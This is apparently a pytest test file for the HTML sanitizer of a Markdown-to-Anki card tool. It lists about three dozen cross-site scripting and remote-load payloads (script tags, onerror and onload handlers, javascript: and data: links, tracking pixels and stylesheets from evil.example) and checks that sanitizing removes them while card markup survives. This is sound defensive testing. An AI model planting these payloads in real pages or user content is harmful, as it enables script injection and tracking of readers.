"""The sanitizer keeps card markup and removes anything that could run or load remotely."""

from __future__ import annotations

import pytest

from htmlcheck import inspect_html
from qa2anki.render import Renderer, highlight_code
from qa2anki.sanitize import sanitize_html

#: Injection attempts, as a hostile or careless source could contain them (markdown or HTML).
PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="x.png" onerror="alert(1)">',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">mixed case</a>',
    '<a href="&#106;avascript:alert(1)">entity</a>',
    '<a href=" javascript:alert(1)">space</a>',
    "[markdown link](javascript:alert(1))",
    "[markdown data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '<iframe src="https://evil.example/"></iframe>',
    "<style>body { display: none }</style>",
    "</style><script>alert(2)</script>",
    "<style>@import url(https://evil.example/x.css);</style>",
    "<svg onload=alert(1)><circle r=10 /></svg>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
    '<svg><animate attributeName="href" values="javascript:alert(1)" /></svg>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<img src="http://evil.example/track.png">',
    '<img src="//evil.example/track.png">',
    "![pixel](https://evil.example/pixel.gif)",
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img srcset="https://evil.example/a.png 1x">',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<form action="https://evil.example/"><input name="q"><button>go</button></form>',
    '<div style="background:url(https://evil.example/x.png)">styled</div>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<base href="https://evil.example/">',
    "<details open ontoggle=alert(1)><summary>s</summary>d</details>",
    '<video><source onerror="alert(1)"></video>',
    "<!--<img src=x onerror=alert(1)>-->",
    '<p title="x" onmouseover="alert(1)">hover</p>',
    "<template><script>alert(1)</script></template>",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_does_not_survive_rendering_and_sanitizing(payload):
    html = sanitize_html(Renderer().block(f"Before.\n\n{payload}\n\nAfter."))
    problems, _ = inspect_html(html)
    assert problems == [], html
    assert "<script" not in html.lower() and "alert(1)</" not in html


#: Markdown links the renderer itself refuses to make (markdown-it's link check): shown as text.
REFUSED_LINKS = [payload for payload in PAYLOADS if payload.startswith("[")]


def test_the_checker_itself_sees_every_payload():
    """Guards the test above: unsanitized, every payload but the comment and the refused
    markdown links is flagged."""
    flagged = [p for p in PAYLOADS if inspect_html(Renderer().block(p))[0]]
    assert len(flagged) >= len(PAYLOADS) - len(REFUSED_LINKS) - 2  # the comment, the template's script


@pytest.mark.parametrize("payload", REFUSED_LINKS)
def test_a_script_or_data_link_in_markdown_is_never_a_link(payload):
    assert Renderer().block(payload) == f"<p>{payload}</p>"


def test_highlighting_markup_survives():
    code = highlight_code("async def f(x):\n    return await g(x)\n", "python")
    cleaned = sanitize_html(code)
    assert cleaned.count("<span") == code.count("<span")
    assert '<div class="highlight"><pre>' in cleaned
    assert '<span class="k">async</span>' in cleaned or '<span class="k">def</span>' in cleaned


def test_card_markup_survives():
    source = (
        '<table><thead><tr><th style="text-align: center;">A</th></tr></thead>'
        '<tbody><tr><td colspan="2">1</td></tr></tbody></table>'
        "<details><summary>More</summary><ul><li><code>x</code></li></ul></details>"
        '<ol start="3"><li><a href="https://example.org/">docs</a></li></ol>'
    )
    cleaned = sanitize_html(source)
    for kept in ('<th style="text-align:center', 'colspan="2"', "<details><summary>More</summary>",
                 '<ol start="3">', 'href="https://example.org/"', "<code>x</code>"):
        assert kept.replace(" ", "") in cleaned.replace(" ", ""), (kept, cleaned)


def test_images_only_through_the_media_callback():
    html = '<img src="img/a.png" alt="a"><img src="https://evil.example/b.png">'
    assert 'src="' not in sanitize_html(html)
    mapped = sanitize_html(html, lambda src: "0123abcd-a.png" if src == "img/a.png" else None)
    assert 'src="0123abcd-a.png"' in mapped
    assert "evil" not in mapped


@pytest.mark.parametrize(
    "html",
    [
        '<p>x</p><A HREF="javascript:alert(1)">upper</A>',
        '<IMG SRC="http://evil.example/x.png">',
        '<div class="highlight"><pre><span class="k">def</span> <a href="rel.html">f</a></pre></div>',
        '<p>no links <span class="n">x</span></p><script>alert(1)</script>',
    ],
)
def test_fast_path_and_filtered_path_agree(html: str):
    """HTML without links or images skips the per-attribute filter; the result is the same."""
    from qa2anki import sanitize

    cleaned = sanitize.sanitize_html(html)
    assert "javascript" not in cleaned and "evil.example" not in cleaned and "<script" not in cleaned
    assert 'href="rel.html"' not in cleaned  # only http(s) links survive
